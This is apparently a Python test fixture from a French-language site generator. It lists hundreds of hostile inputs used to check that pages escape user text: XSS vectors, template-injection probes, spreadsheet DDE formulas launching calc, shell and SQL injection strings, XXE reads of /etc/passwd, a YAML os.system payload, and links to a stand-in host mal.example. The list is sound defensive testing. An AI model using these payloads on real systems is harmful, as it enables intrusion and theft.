"""Hostile texts, and what a page is made of apart from its text (requirement X3)."""

from __future__ import annotations

from functools import lru_cache
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from tirages import COMPLETS, la_nuit

CLASSIQUES = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//mal.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>clic</a>",
    "<base href=//mal.example/>",
    "<meta http-equiv=refresh content='0;url=//mal.example'>",
    "<link rel=stylesheet href=//mal.example/x.css>",
    "<style>@import '//mal.example/x.css';</style>",
    "<form action=//mal.example><input name=q autofocus onfocus=alert(1)></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>fin",
    "<xmp><script>alert(1)</script></xmp>",
    "<!-- commentaire --><b>gras</b>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    '" onmouseover="alert(1)',
    '"><script>alert(1)</script>',
    '"/><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "'><svg/onload=alert(1)>",
    "` onclick=alert(1) `",
    'x" href="//mal.example" data-x="',
    'x"\n<p id=q>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " \x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//mal.example/suivre",
    "https://mal.example/@exemple.fr",
    "{{7*7}}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in (1,2) %}x{% endfor %}",
    "{% raw %}{{ 7 }}",
    "{# commentaire a #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt; &quot;x&quot; &nbsp;",
    "ligne\r\nX-Ajout: 1\r\n\r\n<script>alert(1)</script>",
    "ligne\rautre\nencore",
    "a\u2028b\u2029c</script>",
    "\\u003cscript\\u003e \\x3c \\';alert(1)//",
    '";alert(1);var x="',
    "*/alert(1)/*",
    "<!--<script>",
    "[lien](javascript:alert(1)) **gras** # titre",
    "a\u0000b\ufffd\ufeff<b>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "é" * 400 + "<b>",
)
# HTML: other elements, other ways of writing them, parsers that disagree.
BALISES = (
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//mal.example/x.swf>",
    "<applet code=x></applet>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select><option></select><script>alert(1)</script>",
    "<table><td background=javascript:alert(1)>",
    "<frameset onload=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<slot name=x></slot><my-element onclick=alert(1)></my-element>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=//mal.example></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<mathml><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'>",
    "<noframes></noframes><script>alert(1)</script>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "</main></body></html><script>alert(1)</script>",
    "</article></section></ul></dl></table><h1>Autre page</h1>",
    "<p hidden><p style='position:fixed;inset:0'>",
    "<div id=contenu data-recherche data-orienter data-ajouter>",
    "<a id=plan name=plan>",
    "<img name=getElementById><form id=documentElement>",
    "<a href='//mal.example' target=_blank ping=//mal.example/p>x</a>",
    "<area href=javascript:alert(1)><map name=x>",
    "<img srcset='//mal.example/x.png 2x'>",
    "<link rel=preconnect href=//mal.example><link rel=prefetch href=//mal.example>",
    "<script type=module>import '//mal.example/x.js'</script>",
    "<script type=application/ld+json>{}</script>",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<script\u00a0>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<sc\u00adript>alert(1)</sc\u00adript>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<?xml version='1.0'?><?xml-stylesheet href='//mal.example/x.xsl'?>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<%= system('id') %>",
    "<b><i></b></i><b <i>",
    "<<b>>",
    "<",
    ">",
    "&",
    "&#x",
    "&#1114112;",
    "&notit;&ampx",
)
ATTRIBUTS = (
    "'\"`><", "' style='background:url(//mal.example)", '" style="display:none" x="',
    '" class="quitter" href="//mal.example', "' data-secours='[]", '" hidden aria-hidden="true', "x onload=alert(1)",
    "\" onclick\n=\n'alert(1)'", "\x0b onfocus=alert(1)", "/ onfocus=alert(1) /", "=onfocus=alert(1)",
)  # fmt: skip
ADRESSES_HOSTILES = (
    "javascript&colon;alert(1)",
    "javascript\u003aalert(1)//https://exemple.fr",
    "java\nscript:alert(1)",
    "\u0000javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://exemple.fr/x",
    "file:///etc/passwd",
    "ftp://mal.example/",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "\\\\mal.example\\partage",
    "https:mal.example",
    "https://exemple.fr:80:80/",
    "http://[::1]/",
    "http://ⅿal.example",
    "https://xn--80ak6aa92e.example/",
    "https://exemple.fr\u202e/moc.lam",
    "https://exemple.fr/%0d%0aX-Ajout:%201",
    "https://u:p@mal.example/",
    "mailto:a@b.example?bcc=c@d.example&body=x",
    "tel:112;phone-context=mal",
    "sms:118?body=x",
    "../../../../etc/passwd",
    "..%2f..%2fmkdocs.yml",
    "?q=x#y",
)
# Formulas, lines of calendars and cards, commands of a forge, queries: what is text here and orders elsewhere.
ORDRES = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '=HYPERLINK("//mal.example";"x")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("//mal.example/";A1);"//a")',
    'DDE("cmd";"/C calc";"x")',
    "'=1+1",
    "＝1+1",
    '"";"=1+1";""',
    "a;b;c\nd;e;f",
    "a,b\r\nc,d",
    "END:VEVENT\r\nBEGIN:VALARM",
    "x\nATTACH:file:///etc/passwd",
    "x\r\n ORGANIZER:mailto:mal@mal.example",
    'SUMMARY;ALTREP="cid:x":y',
    "a\\nb\\;c\\,d\\\\e",
    "x:y;z,t\\",
    "END:VCARD\nBEGIN:VCARD\nTEL:112",
    "x\r\nTEL;TYPE=work:+33100000000",
    "x\nPHOTO;VALUE=uri:https://mal.example/x.png",
    "=?utf-8?B?PGI+?=",
    "::error file=x,line=1::texte",
    "::set-output name=x::y",
    "\n::add-mask::x",
    "##[group]x",
    "%0A::warning::x",
    "$(id) `id` ${IFS} ; id | id && id > x",
    "${{ github.token }}",
    "' OR '1'='1' --",
    "'; DROP TABLE fiches; --",
    '{"$ne": null}',
    "\x1b[2J\x1b]0;x\x07",
    "\x1b]8;;//mal.example\x07x\x1b]8;;\x07",
    "../directory/x.yml\x00.html",
    "%s %d %n {0} {0.__class__} %(x)s",
)
GABARITS = (
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{''|attr('__class__')}}",
    "{%- include 'accueil.html.j2' -%}",
    "{% import 'os' as os %}",
    "{% autoescape false %}<b>{% endautoescape %}",
    "{{ '<b>'|safe }}",
    "{#",
    "{%",
    "{{",
    "}}",
    "%}",
    "[[ x ]] <# x #> ${x} #{x} *{x} @{x} ~{x}",
)
ECRITURES = (
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]",
    "<<: *x",
    "--- x\n...\n--- y",
    "%YAML 1.2",
    "a: b: c",
    "- x\n- y",
    "'",
    '"',
    "|",
    ">-\n  x",
    "? x\n: y",
    "[a, b",
    "{a: b",
    "# x",
    "x #y",
    "non",
    "~",
    "null",
    "0325",
    "1e999",
    ".nan",
    "0x1F",
    "12:30:45",
    "2026-02-30",
    '{"a":"</script>"}',
    "\\ud800 \\u0000 \\x00 \\",
    "__proto__",
    "constructor",
    "toString",
    "undefined",
    "[object Object]",
    "NaN",
)
LETTRES = (
    "\u202egnp.exe",
    "\u2066a\u2067b\u2068c\u2069",
    "a\u200bb\u200cc\u200dd\u2060e",
    "\u200f\u061c\u200e",
    "e\u0301" * 20,
    "Z\u0351\u036b\u0343\u036a\u0302" * 20,
    "ﷺ﷽" * 30,
    "🏳️‍🌈👩‍👩‍👧‍👧",
    "\U000e0001\U000e0041",
    "\ue000\uf8ff",
    "\ufdd0\uffff",
    "\u2028\u2029\u0085",
    "\u3000\u00a0\u202f\u2007",
    "іⅼоⅰ раураl",
    "İıſẞß",
    "ＡＢＣ１２３",
    "\u0000",
    "\x7f\x80\x9f",
    "\t\v\f",
    "é" * 3000,
    "a" * 20_000,
    "a " * 5_000,
    "[" * 2_000,
    "«»“”‘’" * 50,
)
CHARGES = (*CLASSIQUES, *BALISES, *ATTRIBUTS, *ADRESSES_HOSTILES, *ORDRES, *GABARITS, *ECRITURES, *LETTRES)
# One in five by day: each test of a place where a text is written draws them all at night.
DU_JOUR = CHARGES if COMPLETS else CHARGES[::5]
CHACUNE = pytest.mark.parametrize("charge", la_nuit(CHARGES, sauf=DU_JOUR))
# Half characters: UTF-8 cannot write them, so they only come from an escape of YAML or of JSON.
DEMI_CARACTERES = ("\\ud800", "\\udfff", "\\ud83d x", "\\uD800\\uD800", "\\U0000D800", "\\U00110000")
ADRESSES = frozenset({"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "srcdoc"})
CONTROLES = "".join(map(chr, range(33)))
Evenement = tuple[str, ...]


class Ossature(HTMLParser):
    """Reads a page: elements with the names of their attributes and the site of their links, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.os: list[Evenement] = []
        self.textes: list[str] = []
        self.attributs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.os.append((tag, *(nom for nom, _ in attrs), *(_site(v or "") for nom, v in attrs if nom in ADRESSES)))
        self.attributs += [(nom, v or "") for nom, v in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.os.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.os.append(("commentaire",))

    def handle_decl(self, decl: str) -> None:
        self.os.append(("declaration",))

    def unknown_decl(self, data: str) -> None:
        self.os.append(("declaration",))

    def handle_pi(self, data: str) -> None:
        self.os.append(("instruction",))

    def handle_data(self, data: str) -> None:
        self.textes.append(data)

    def updatepos(self, i: int, j: int) -> int:
        """Nobody asks at which line one is: counting them takes a tenth of the time."""
        return j


@lru_cache(10_000)
def _site(adresse: str) -> str:
    """``https://exemple.fr``, ``tel:``, or nothing for a page of ours. Browsers drop controls before the scheme."""
    try:
        url = urlsplit(adresse.strip(CONTROLES))
    except ValueError:
        return "illisible"
    if url.scheme in ("mailto", "tel", "sms"):
        return f"{url.scheme}:"
    return f"{url.scheme}:{'//' if url.netloc else ''}{url.netloc}" if url.scheme or url.netloc else ""


def ossature(html: str) -> Ossature:
    """Parse a page."""
    lecteur = Ossature()
    lecteur.feed(html)
    lecteur.close()
    return lecteur
